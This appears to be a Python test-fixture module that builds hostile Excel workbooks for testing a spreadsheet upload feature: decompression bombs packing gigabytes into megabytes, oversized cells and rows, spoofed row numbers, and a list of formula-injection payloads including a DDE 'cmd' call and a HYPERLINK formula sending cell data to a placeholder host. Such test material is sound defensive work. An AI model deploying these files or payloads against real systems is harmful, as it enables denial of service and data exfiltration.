"""Hostile spreadsheets for the tests, built small: a workbook whose member unpacks to a gigabyte is a megabyte
of deflate blocks, each the same megabyte of text compressed once (a full flush makes every block stand
alone, so one block repeated is a valid stream), and its CRC is computed without holding the text."""

import io
import random
import struct
import zlib

import openpyxl

HEADER = ["姓名", "证件号码", "网格编码"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PAYLOADS = ['=HYPERLINK("http://x?x="&A1,"查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2", "\t=1"]


class Repeated:
    """`prefix`, then `block` `times` over, then `suffix`: the text of one member, never held whole."""

    def __init__(self, prefix: bytes, block: bytes, times: int, suffix: bytes):
        self.prefix, self.block, self.times, self.suffix = prefix, block, times, suffix

    def deflated(self) -> tuple[bytes, int, int]:
        """(raw deflate stream, CRC-32, size unpacked)."""
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = packer.compress(self.prefix) + packer.flush(zlib.Z_FULL_FLUSH)
        body = packer.compress(self.block) + packer.flush(zlib.Z_FULL_FLUSH)
        tail = packer.compress(self.suffix) + packer.flush()
        crc = zlib.crc32(self.prefix)
        for _ in range(self.times):
            crc = zlib.crc32(self.block, crc)
        crc = zlib.crc32(self.suffix, crc)
        size = len(self.prefix) + len(self.block) * self.times + len(self.suffix)
        return head + body * self.times + tail, crc, size


def zip_file(members: dict[str, bytes | Repeated]) -> bytes:
    """A zip archive of deflated members, written by hand (zipfile only packs text it is given whole)."""
    out, central = io.BytesIO(), []
    for name, content in members.items():
        if isinstance(content, bytes):
            content = Repeated(content, b"", 0, b"")
        data, crc, size = content.deflated()
        encoded, offset = name.encode(), out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x21, crc, len(data), size,
                              len(encoded), 0) + encoded + data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, 8, 0, 0x21, crc, len(data),
                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def workbook_members(rows: list[list] | None = None) -> dict[str, bytes]:
    """The members of an ordinary workbook (openpyxl's, shared strings and all) holding HEADER and `rows`."""
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    for row in rows or []:
        book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    import zipfile

    with zipfile.ZipFile(data) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def sheet_xml(rows: bytes) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows
            + b"</sheetData></worksheet>")


def _header_row() -> bytes:
    return ("<row r=\"1\">" + "".join(f'<c r="{c}1" t="inlineStr"><is><t>{t}</t></is></c>'
                                      for c, t in zip("ABC", HEADER, strict=True)) + "</row>").encode()


def with_shared_string(megabytes: int) -> bytes:
    """A workbook whose shared strings hold one string of `megabytes` MB of "a" (a megabyte or so on disk)."""
    members = workbook_members()
    strings = "".join(f"<si><t>{t}</t></si>" for t in HEADER)
    prefix = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">{strings}<si><t>'.encode()
    members["xl/sharedStrings.xml"] = Repeated(prefix, b"a" * (1 << 20), megabytes, b"</t></si></sst>")
    return zip_file(members)


def with_cell(chars: int, *, letters: str = "a") -> bytes:
    """A workbook whose first sheet holds, under the header, one cell of `chars` characters drawn from `letters`
    (one letter: a gigabyte packs to a megabyte; many: it packs no better than text does)."""
    members = workbook_members()
    rng = random.Random(chars)
    block = 1 << 20
    text = "".join(rng.choice(letters) for _ in range(min(chars, block))).encode()
    times, rest = divmod(chars, len(text))
    prefix = sheet_xml(_header_row()).replace(b"</sheetData></worksheet>", b"")
    prefix += b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
    members["xl/worksheets/sheet1.xml"] = Repeated(prefix, text, times,
                                                   text[:rest] + b"</t></is></c></row></sheetData></worksheet>")
    return zip_file(members)


def with_rows(count: int) -> bytes:
    """A workbook whose first sheet holds the header and `count` rows of one random digit (78 MB of XML for three
    million rows, 1.5 MB packed: it packs about 50 times, like a sheet of repetitive rows)."""
    members = workbook_members()
    rng = random.Random(count)
    per_block = 40_000
    block = b"".join(b"<row><c><v>%d</v></c></row>" % rng.randrange(10) for _ in range(per_block))
    times, rest = divmod(count, per_block)
    members["xl/worksheets/sheet1.xml"] = Repeated(
        sheet_xml(_header_row()).replace(b"</sheetData></worksheet>", b""), block, times,
        block[: rest * len(b"<row><c><v>0</v></c></row>")] + b"</sheetData></worksheet>")
    return zip_file(members)


def with_row_number(number: int) -> bytes:
    """A small workbook whose second row says it is row `number` (the sheet claims its rows, not counts them)."""
    members = workbook_members()
    members["xl/worksheets/sheet1.xml"] = sheet_xml(
        _header_row() + f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>x</t></is></c></row>'.encode())
    return zip_file(members)
